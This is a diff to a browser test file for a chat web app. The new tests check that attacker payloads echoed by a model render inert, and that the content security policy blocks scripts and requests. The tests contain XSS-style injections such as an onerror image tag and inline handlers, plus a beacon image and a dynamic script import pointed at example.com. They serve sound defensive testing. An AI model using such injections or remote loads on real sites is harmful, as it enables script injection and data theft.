@@ -1,3 +1,4 @@
+import { ALLOWED, PAYLOADS } from '../src/ui/text/testing/payloads'
 import { chatOf, keepChats } from './support/chats'
 import { expect, test } from './support/fixtures'
 import { lastingLongTasks } from './support/main-thread'
@@ -84,24 +85,74 @@ test('pictures, scripts and frames in an answer never load', async ({ visit }) =
   // That nothing was asked of another origin is checked for every test.
 })
 
+test('what attackers have a model say is inert, and asks nobody for anything', async ({ visit }) => {
+  await playEngine(visit.page, 'echo')
+  await visit.openReady()
+  const batch = Math.ceil(PAYLOADS.length / 8)
+  for (let at = 0; at < PAYLOADS.length; at += batch) {
+    await visit.send(PAYLOADS.slice(at, at + batch).join('\n\n'))
+    await visit.untilAnswered('stop', at / batch + 1)
+  }
+  const found = await visit.answers.locator('.markdown *').evaluateAll((elements) =>
+    elements.map((element) => ({
+      tag: element.localName,
+      attributes: element.getAttributeNames(),
+      protocol: element instanceof HTMLAnchorElement ? element.protocol : 'https:',
+    })),
+  )
+  expect(found.length).toBeGreaterThan(100)
+  for (const { tag, attributes, protocol } of found) {
+    expect(Object.keys(ALLOWED)).toContain(tag)
+    for (const attribute of attributes) expect(ALLOWED[tag]).toContain(attribute)
+    expect(['https:', 'http:', 'mailto:']).toContain(protocol)
+  }
+  expect(await visit.page.evaluate(() => 'owned' in globalThis)).toBe(false)
+  // That nothing was asked of another origin, and no policy broken, is checked for every test.
+})
+
 test('the content security policy stops what other walls let through', async ({ visit }) => {
   await playEngine(visit.page)
   await visit.open()
   expect(visit.offences.errors).toEqual([])
   const refused = visit.page.waitForEvent('requestfailed')
-  await visit.page.evaluate(() => {
+  const untrusted = await visit.page.evaluate(() => {
     const picture = new Image()
     picture.src = 'https://example.com/log.png'
-    const script = document.createElement('script')
-    script.textContent = "document.title = 'owned'"
-    document.body.append(picture, script)
+    document.body.append(picture)
+    import('https://example.com/' + 'owned.js').catch(() => {})
+    // Text becomes markup, scripts and workers by policies alone that the page names.
+    const ways: (() => unknown)[] = [
+      () => (document.createElement('div').innerHTML = '<img src=x onerror="document.title = 1">'),
+      () => (document.createElement('script').text = 'document.title = 1'),
+      () => document.body.setAttribute('onclick', 'document.title = 1'),
+      () => new Worker('data:text/javascript,1'),
+      () => window.setTimeout('document.title = 1'),
+      () =>
+        (
+          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
+        ).trustedTypes.createPolicy('mine', {}),
+    ]
+    return ways
+      .filter((way) => {
+        try {
+          way()
+          return true
+        } catch {
+          return false
+        }
+      })
+      .map(String)
   })
+  expect(untrusted).toEqual([])
   await expect
     .poll(() => visit.offences.errors.filter((error) => /img-src|script-src/.test(error)).length)
-    .toBe(2)
+    .toBeGreaterThanOrEqual(2)
   await expect(visit.page).toHaveTitle('Trilobite')
   expect((await refused).failure()?.errorText).toBe('csp')
   // The test's own doing. That both lists fill shows that empty ones mean something.
-  visit.offences.forgive(/img-src|script-src/)
-  expect(visit.offences.foreign.splice(0)).toEqual(['https://example.com/log.png'])
+  visit.offences.forgive(/img-src|script-src|TrustedHTML|TrustedScript|TrustedTypePolicy/)
+  expect(visit.offences.foreign.splice(0).sort()).toEqual([
+    'https://example.com/log.png',
+    'https://example.com/owned.js',
+  ])
 })
